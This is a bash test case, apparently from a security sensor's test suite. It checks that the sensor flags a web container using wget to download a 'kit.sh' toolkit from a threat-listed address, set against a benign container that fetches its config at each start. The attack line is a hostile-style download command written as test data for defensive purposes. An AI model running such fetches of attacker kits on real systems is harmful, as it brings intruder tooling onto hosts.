# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='wget of a kit from a listed address; the file is on a hash list'
case_class=S
# What is listed stands in the sensor's feeds (scenario_feeds in lib.sh).
case_prepare() {
	kit_server
	web web
	client_of c "http://S8-web/"
	run boot pg-many sh -c 'curl -s -m 5 --retry 5 --retry-connrefused -o /tmp/app.conf http://203.0.113.9:8088/app.conf; exec sleep infinity'
}
# a container that fetches its configuration at each start
case_benign() { d restart -t 1 S8-boot; }
case_attack() { in_ web sh -c 'wget -q -O /tmp/kit.sh http://203.0.113.66:8088/kit.sh'; }
case_expect='process.new S8-web /usr/bin/wget *
intel.ip S8-web /usr/bin/wget ext:203.0.113.66
intel.file S8-web * /tmp/kit.sh'
